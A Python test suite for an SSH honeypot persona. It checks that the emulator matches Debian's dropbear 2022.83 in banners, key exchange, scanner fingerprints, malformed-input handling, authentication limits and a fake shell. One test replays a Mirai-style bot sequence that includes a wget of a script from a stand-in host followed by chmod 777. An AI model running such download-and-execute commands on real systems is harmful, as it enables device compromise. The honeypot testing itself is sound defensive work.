"""The dropbear-debian persona's SSH port against Debian 12's own dropbear
(dropbear-bin 2022.83), side by side on loopback: identification string and
KEXINIT sent before the client's line, ssh-audit's report, nmap -sV, answers
to malformed version lines and packets (bytes after the KEXINIT, who
closes, roughly when), kexguess2 guesses, the password failure delay and
MaxAuthTries, a change of user name; then the OpenSSH client and paramiko
log in to lure over every algorithm dropbear offers, and the events carry
user, password, client version and HASSH."""
import json
import os
import re
import shutil
import socket
import subprocess
import threading
import time
import xml.etree.ElementTree as ET

import pytest

from conftest import get, persona, recv_to_eof
from ssh_common import (answer, failures, kexinit_of, kexinit_payload,
                        nmap_dbs, packet_types, plain_packet, read_line,
                        read_plain_packet, sshstr, start_dropbear)

persona("dropbear-debian")

paramiko = pytest.importorskip("paramiko")

RIGHT = ("root", "root")  # emu/personas/dropbear-debian/ssh.conf: ssh.accept
CLIENT_VERSION = b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n"


@pytest.fixture(scope="module")
def dropbear(tmp_path_factory):
    """Debian's dropbear with its default options, host keys from
    dropbearkey, on a free loopback port: yields the port."""
    p, port = start_dropbear(tmp_path_factory.mktemp("dropbear"))
    yield port
    p.terminate()
    p.wait(timeout=10)


# --- identity ---------------------------------------------------------------

def test_banner_and_kexinit_equal_dropbear(dropbear, sensor):
    real = kexinit_of(dropbear)
    ours = kexinit_of(sensor.port(22))
    assert ours[0] == real[0] == b"SSH-2.0-dropbear_2022.83\r\n"
    assert ours[3] == real[3], "KEXINIT name-lists"
    assert ours[4] == real[4], "first_kex_packet_follows and reserved"
    assert (ours[1], ours[2]) == (real[1], real[2]), "length and padding"


def test_sixth_unauthenticated_from_one_address_closed_like_dropbear(
        dropbear, sensor):
    """dropbear closes a 6th connection not logged in from one address
    (MAX_UNAUTH_PER_IP 5) at once, without a byte; another address still
    gets the banner."""
    def run(port):
        held = []
        try:
            for _ in range(5):
                s = socket.create_connection(("127.0.0.1", port), timeout=5)
                held.append(s)
                assert read_line(s) == b"SSH-2.0-dropbear_2022.83\r\n"
            with socket.create_connection(("127.0.0.1", port),
                                          timeout=5) as s:
                sixth = recv_to_eof(s, 3)
            with socket.create_connection(("127.0.0.1", port), timeout=5,
                                          source_address=("127.0.0.2", 0)) as s:
                other = read_line(s)
        finally:
            for s in held:
                s.close()
        time.sleep(0.5)  # dropbear's children see the close and exit
        return sixth, other
    time.sleep(1)  # children of earlier tests (a failure delay) have left
    real = run(dropbear)
    assert real == ((b"", True), b"SSH-2.0-dropbear_2022.83\r\n")
    assert run(sensor.port(22)) == real


def test_padding_is_random_like_dropbear(dropbear, sensor):
    """dropbear fills padding from its RNG even before keys (sshd: zeros)."""
    def paddings(port):
        out = set()
        for _ in range(3):
            with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
                read_line(s)
                out.add(read_plain_packet(s)[1])
        return out
    assert len(paddings(dropbear)) == 3
    assert len(paddings(sensor.port(22))) == 3


def test_ssh_audit_same_report(dropbear, sensor):
    exe = shutil.which("ssh-audit")
    if not exe:
        pytest.skip("ssh-audit (PyPI) not installed")

    def report(port):
        r = subprocess.run([exe, "-j", "-p", str(port), "127.0.0.1"],
                           capture_output=True, timeout=120)
        j = json.loads(r.stdout)
        assert j.get("kex"), r.stdout[:500]
        keys = sorted(f["hostkey"] for f in j.pop("fingerprints"))
        j.pop("target")
        text = re.sub(r"\d+(\.\d+)? (connections|seconds|conns/sec)",
                      r"N \2", json.dumps(j, sort_keys=True))
        return r.returncode, keys, json.loads(text)

    ours, real = report(sensor.port(22)), report(dropbear)
    assert ours == real
    assert "kexguess2@matt.ucc.asn.au" in json.dumps(ours)


def nmap_product(port, datadir=None):
    """nmap -sV's (name, product, version); played again up to twice when
    it named nothing (on a loaded machine a probe can time out before the
    forked daemon's banner: run 6 of session 11 saw it once)."""
    cmd = ["nmap", "-n", "-Pn", "-sV", "-p", str(port), "-oX", "-"]
    if datadir:
        cmd += ["--datadir", str(datadir)]
    for _ in range(3):
        r = subprocess.run(cmd + ["127.0.0.1"], capture_output=True, timeout=300)
        assert r.returncode == 0, r.stderr.decode()
        svc = ET.fromstring(r.stdout).find(".//port/service")
        if svc is not None:
            return svc.get("name"), svc.get("product"), svc.get("version")
    return r.stdout.decode()[-400:]


def test_nmap_same_product_and_version(dropbear, sensor):
    if not shutil.which("nmap"):
        pytest.skip("nmap not installed")
    dbs = nmap_dbs()
    for d in dbs:
        real = nmap_product(dropbear, d)
        assert real == ("ssh", "Dropbear sshd", "2022.83"), (d, real)
        assert nmap_product(sensor.port(22), d) == real, d


# --- malformed input --------------------------------------------------------

KEX = b"curve25519-sha256"
BAD = {
    "no_version": [],
    "major_1": [b"SSH-1.5-1.2.27\r\n"],
    "ssh_1_99": [b"SSH-1.99-x\r\n"],
    "ssh_2_9": [b"SSH-2.9-x\r\n"],
    "lf_only": [b"SSH-2.0-x\n"],
    "http": [b"GET / HTTP/1.0\r\n\r\n"],
    "nul": [b"SSH-2.0-f\x00oo\r\n"],
    "cr_inside": [b"SSH-2.0-x\rfoo\r\n"],
    "no_software": [b"SSH-2.0-\r\n"],
    "pre_lines": [b"hello\r\nSSH-2.0-x\r\n"],
    "long_line": [b"SSH-2.0-" + b"A" * 200 + b"\r\n"],
    # 255 bytes end dropbear's line: the rest is read as a packet
    "line_over_255": [b"SSH-2.0-" + b"A" * 300 + b"\r\n"],
    "newkeys_first": [b"SSH-2.0-x\r\n", b"\0\0\0\x0c\x0a\x15" + b"A" * 10],
    "ignore_first": [b"SSH-2.0-x\r\n", b"\0\0\0\x0c\x0a\x02" + b"A" * 10],
    "service_first": [b"SSH-2.0-x\r\n",
                      plain_packet(b"\x05" + sshstr(b"ssh-userauth"))],
    "userauth_first": [b"SSH-2.0-x\r\n", plain_packet(b"\x32" + b"\0" * 12)],
    "channel_first": [b"SSH-2.0-x\r\n", plain_packet(b"\x5a" + b"\0" * 12)],
    "oversized": [b"SSH-2.0-x\r\n", b"\x7f\xff\xff\xff" + b"A" * 60],
    "too_short": [b"SSH-2.0-x\r\n", b"\0\0\0\x01" + b"A" * 60],
    "misaligned": [b"SSH-2.0-x\r\n", b"\0\0\0\x0d\x0a\x02" + b"A" * 11],
    "bad_padding": [b"SSH-2.0-x\r\n", b"\0\0\0\x0c\x02\x02" + b"A" * 10],
    "no_payload": [b"SSH-2.0-x\r\n", b"\0\0\0\x0c\x0b\x02" + b"A" * 10],
    "garbage": [b"SSH-2.0-x\r\n", bytes(range(256)) * 4],
    # up to 35000 bytes a packet is read whole (RECV_MAX_PACKET_LEN)
    "big_ignore": [b"SSH-2.0-x\r\n",
                   plain_packet(b"\x02" + sshstr(b"A" * 30000))],
    "over_35000": [b"SSH-2.0-x\r\n",
                   plain_packet(b"\x02" + sshstr(b"A" * 35000))],
    "too_many_algos": [b"SSH-2.0-x\r\n", plain_packet(kexinit_payload(
        b",".join([KEX] * 51), b"ssh-ed25519"))],
    "kexguess2_first": [b"SSH-2.0-x\r\n", plain_packet(kexinit_payload(
        b"kexguess2@matt.ucc.asn.au," + KEX, b"ssh-ed25519"))],
    "no_common_kex": [b"SSH-2.0-x\r\n", plain_packet(kexinit_payload(
        b"diffie-hellman-group1-sha1", b"ssh-ed25519"))],
    "strict_not_first": [b"SSH-2.0-x\r\n",
                         b"\0\0\0\x0c\x0a\x02" + b"A" * 10,
                         plain_packet(kexinit_payload(
                             KEX + b",kex-strict-c-v00@openssh.com",
                             b"ssh-ed25519"))],
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_malformed_input_like_dropbear(dropbear, sensor, case):
    for _ in range(3):
        real = answer(dropbear, BAD[case])
        ours = answer(sensor.port(22), BAD[case])
        # dropbear exits with unread input (a reset); lure's core may close
        # with a FIN: bytes (less random padding) and "closed" must agree
        assert packet_types(ours[0]) == packet_types(real[0])
        assert (ours[1] == "open") == (real[1] == "open"), (ours[1], real[1])
        # when they close: as late, within 0.5 s; a loaded machine can
        # hold up one side (dropbear's close came 0.95 s late once, in a
        # CI run under the sanitizers): the pair is played again
        if real[1] == "open" or abs(ours[2] - real[2]) < 0.5:
            break
    if real[1] != "open":
        assert abs(ours[2] - real[2]) < 0.5, (ours[2], real[2])
    assert sensor.alive()


# the client guesses its first KEX packet: dropbear drops a wrong guess,
# answers a right one (kexguess2: right when the client's first names are
# ones the server has)
GUESS = {
    "right": (KEX, b"ssh-ed25519"),
    "wrong_hostkey": (KEX, b"rsa-sha2-256,ssh-ed25519"),
    "wrong_kex": (b"diffie-hellman-group14-sha256," + KEX, b"ssh-ed25519"),
    "kexguess2_right": (KEX + b",kexguess2@matt.ucc.asn.au",
                        b"rsa-sha2-256,ssh-ed25519"),
    "kexguess2_wrong": (b"sntrup761x25519-sha512@openssh.com," + KEX
                        + b",kexguess2@matt.ucc.asn.au", b"ssh-ed25519"),
}


@pytest.mark.parametrize("case", sorted(GUESS))
def test_first_kex_packet_guess_like_dropbear(dropbear, sensor, case):
    kex, hk = GUESS[case]
    q_c = bytes(range(1, 33))  # a valid X25519 public value
    chunks = [b"SSH-2.0-x\r\n", plain_packet(kexinit_payload(kex, hk, 1)),
              plain_packet(b"\x1e" + sshstr(q_c))]
    real = answer(dropbear, chunks)
    ours = answer(sensor.port(22), chunks)
    rt = [p[:1] for p in packet_types(real[0])]
    assert [p[:1] for p in packet_types(ours[0])] == rt
    assert (ours[1] == "open") == (real[1] == "open")
    assert rt == ([b"\x1f", b"\x15"] if case in ("right", "kexguess2_right")
                  else [])


def test_garbage_after_keys_closes_quietly(dropbear, sensor):
    """A packet failing the MAC after NEWKEYS: dropbear exits ("Integrity
    error") without a word; so does lure, and it stays up."""
    def run(port):
        t = paramiko.Transport(("127.0.0.1", port))
        t.start_client(timeout=10)
        t.sock.sendall(os.urandom(64))
        end = time.monotonic() + 5
        while t.is_active() and time.monotonic() < end:
            time.sleep(0.05)
        active = t.is_active()
        t.close()
        return active
    assert run(dropbear) is False
    assert run(sensor.port(22)) is False
    assert sensor.alive()


# --- authentication ---------------------------------------------------------

def test_failure_delay_and_max_tries_like_dropbear(dropbear, sensor):
    """300 +- 50 ms per wrong password; the tenth closes the connection
    without a failure message (MAX_AUTH_TRIES 10)."""
    real, ours = [], []
    th = [threading.Thread(target=failures, args=(dropbear, real)),
          threading.Thread(target=failures, args=(sensor.port(22), ours))]
    for x in th:
        x.start()
    for x in th:
        x.join(timeout=90)
    assert [o[0] for o in ours] == [r[0] for r in real]
    assert ours[-1][0].endswith("transport shut down or saw EOF")
    assert ours[0] == ("none", ["password", "publickey"])
    for _, a in ours[1:]:
        assert 0.2 <= a <= 0.6, ours
    assert len(sensor.find("login", lure__auth__method="password")) >= 10


def user_change(port):
    t = paramiko.Transport(("127.0.0.1", port))
    t.start_client(timeout=10)
    out = []
    for user in ("root", "admin"):
        try:
            t.auth_password(user, "not-it")
        except paramiko.AuthenticationException as e:
            out.append(str(e))
    t.close()
    return out


def test_user_change_closes_like_dropbear(dropbear, sensor):
    real, ours = user_change(dropbear), user_change(sensor.port(22))
    assert ours == real
    assert ours[-1].endswith("transport shut down or saw EOF")
    sensor.wait_event("login", user__name="admin",
                      lure__auth__password="not-it")


def test_publickey_offers_do_not_count(dropbear, sensor, tmp_path):
    """dropbear answers an unknown key at once and does not count it: 12
    offers, then a password, on one connection, on both."""
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f",
                    str(tmp_path / "k")], check=True)
    key = paramiko.Ed25519Key.from_private_key_file(str(tmp_path / "k"))

    def run(port):
        t = paramiko.Transport(("127.0.0.1", port))
        t.start_client(timeout=10)
        out = []
        for _ in range(12):
            t0 = time.monotonic()
            try:
                t.auth_publickey("root", key)
            except paramiko.AuthenticationException as e:
                out.append((str(e), time.monotonic() - t0 < 0.2))
        try:
            t.auth_password("root", "wrong")
        except paramiko.AuthenticationException as e:
            out.append((str(e), True))
        t.close()
        return out
    real, ours = run(dropbear), run(sensor.port(22))
    assert ours == real
    assert len(ours) == 13 and all(fast for _, fast in ours)
    pk = sensor.wait_event("login", lure__auth__method="publickey")
    assert get(pk, "lure.ssh.key_type") == "ssh-ed25519"


# --- the OpenSSH client and paramiko against lure ---------------------------

def ssh_cmd(port, user, password, *opts, cmd="echo hi"):
    return subprocess.run(
        ["sshpass", "-p", password, "ssh", *opts,
         "-o", "StrictHostKeyChecking=no",
         "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
         "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1",
         "-p", str(port), f"{user}@127.0.0.1", cmd],
        capture_output=True, timeout=60, stdin=subprocess.DEVNULL)


def test_openssh_wrong_and_right_password(dropbear, sensor):
    port = sensor.port(22)
    bad_real = ssh_cmd(dropbear, "root", "wrong-pw")
    bad = ssh_cmd(port, "root", "wrong-pw")
    assert bad.returncode == bad_real.returncode == 255
    assert bad.stderr == bad_real.stderr
    ok = ssh_cmd(port, *RIGHT, cmd="uname -a")
    assert ok.returncode == 0, ok.stderr
    fail = sensor.wait_event("login", user__name="root",
                             lure__auth__password="wrong-pw")
    assert get(fail, "event.outcome") == "failure"
    assert get(fail, "lure.ssh.client_version").startswith("SSH-2.0-OpenSSH_9.2")
    assert re.fullmatch(r"[0-9a-f]{32}", get(fail, "lure.ssh.hassh"))
    good = sensor.wait_event("login", lure__auth__password=RIGHT[1])
    assert get(good, "event.outcome") == "success"
    sensor.wait_event("command", lure__command="uname -a")


ALGS = ([("KexAlgorithms", k) for k in (
    "curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp521",
    "ecdh-sha2-nistp384", "ecdh-sha2-nistp256",
    "diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1")]
    + [("HostKeyAlgorithms", h) for h in (
        "ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-256", "ssh-rsa")]
    + [("Ciphers", c) for c in (
        "chacha20-poly1305@openssh.com", "aes128-ctr", "aes256-ctr")]
    + [("MACs", m) for m in ("hmac-sha1", "hmac-sha2-256")])


@pytest.mark.parametrize("opt,alg", ALGS, ids=[a for _, a in ALGS])
def test_openssh_every_algorithm(sensor, opt, alg):
    extra = ["-o", f"{opt}={alg}"]
    if opt == "MACs":
        extra += ["-c", "aes128-ctr"]
    r = ssh_cmd(sensor.port(22), *RIGHT, *extra, "-v", cmd=f"true {alg}")
    assert r.returncode == 0, r.stderr[-2000:]
    assert alg.encode() in r.stderr
    sensor.wait_event("command", lure__command=f"true {alg}")


def test_paramiko_exec(sensor):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", sensor.port(22), username="admin",
              password="admin", look_for_keys=False, allow_agent=False,
              timeout=10)
    _, out, _ = c.exec_command("uname -m")
    assert out.read() == b"x86_64\n"
    assert out.channel.recv_exit_status() == 0
    c.close()
    ev = sensor.wait_event("command", lure__command="uname -m")
    assert get(ev, "lure.ssh.client_version").startswith("SSH-2.0-paramiko_")


# --- the fake shell behind a login -------------------------------------------

def test_exec_runs_the_fake_shell(sensor):
    port = sensor.port(22)
    r = ssh_cmd(port, *RIGHT, cmd="uname -a; echo hello")
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith(b"Linux debian 6.1.0-28-amd64 "), r.stdout
    assert r.stdout.endswith(b"x86_64 GNU/Linux\nhello\n"), r.stdout
    # exit-status is the shell's $?
    r = ssh_cmd(port, *RIGHT, cmd="nosuchcommand")
    assert r.returncode == 127
    assert r.stderr.endswith(b"nosuchcommand: command not found\n") or \
        r.stdout.endswith(b"nosuchcommand: command not found\n")
    # under a pty line ends are CR LF
    r = ssh_cmd(port, *RIGHT, "-tt", cmd="echo a; echo b")
    assert b"a\r\nb\r\n" in r.stdout, r.stdout
    ev = sensor.wait_event("command", lure__command="uname -a; echo hello")
    assert get(ev, "user.name") == "root"
    assert get(ev, "lure.ssh.hassh")


def read_until(ch, end, timeout=5):
    buf = b""
    t = time.monotonic() + timeout
    while not buf.endswith(end):
        assert time.monotonic() < t, buf
        buf += ch.recv(4096)
    return buf


MIRAI = [b"enable", b"system", b"shell", b"sh",
         b"cd /tmp || cd /var/run; wget http://192.0.2.9/x.sh; chmod 777 x.sh",
         b"/bin/busybox MIRAI"]


def test_shell_session_answers_a_bot(sensor):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", sensor.port(22), username=RIGHT[0],
              password=RIGHT[1], look_for_keys=False, allow_agent=False,
              timeout=10)
    ch = c.invoke_shell()
    ch.settimeout(5)
    # dropbear's DO_MOTD: /etc/motd through the pty (LF -> CR LF) first
    first = read_until(ch, b"# ")
    assert first.startswith(b"\r\nThe programs included with the Debian "
                            b"GNU/Linux system are free software;\r\n")
    assert first.endswith(b"permitted by applicable law.\r\nroot@debian:~# ")
    for line in MIRAI:
        ch.sendall(line + b"\r")
        out = read_until(ch, b"# ")
        assert out.startswith(line + b"\r\n"), out  # the pty's echo
        ev = sensor.wait_event("command", lure__command=line.decode())
        assert get(ev, "lure.ssh.client_version").startswith("SSH-2.0-paramiko")
    ev = sensor.wait_event("command", lure__command=MIRAI[4].decode())
    assert "http://192.0.2.9/x.sh" in json.dumps(ev)
    # line editing: DEL removes what it echoed
    ch.sendall(b"echo abX\x7fc\r")
    out = read_until(ch, b"# ")
    assert out.startswith(b"echo abX\b \bc\r\nabc\r\n"), out
    sensor.wait_event("command", lure__command="echo abc")
    # nested shells ("sh" above) are left one by one, then the session ends
    for _ in range(8):
        if ch.exit_status_ready():
            break
        ch.sendall(b"exit\r")
        time.sleep(0.2)
    assert ch.recv_exit_status() == 0
    c.close()


def test_output_respects_a_small_window(sensor):
    """A client with a 256-byte window and 100-byte packets still gets all
    of a 1.5 KB answer, in pieces."""
    sock = socket.create_connection(("127.0.0.1", sensor.port(22)))
    t = paramiko.Transport(sock, default_window_size=256,
                           default_max_packet_size=100)
    t.start_client(timeout=10)
    t.auth_password(*RIGHT)
    ch = t.open_session(window_size=256, max_packet_size=100)
    ch.exec_command("; ".join(["uname -a"] * 16))
    out = b""
    ch.settimeout(5)
    while True:
        d = ch.recv(4096)
        if not d:
            break
        out += d
    line = out.split(b"\n")[0] + b"\n"
    assert line.startswith(b"Linux debian ")
    assert out == line * 16 and len(out) > 1300
    assert ch.recv_exit_status() == 0
    t.close()
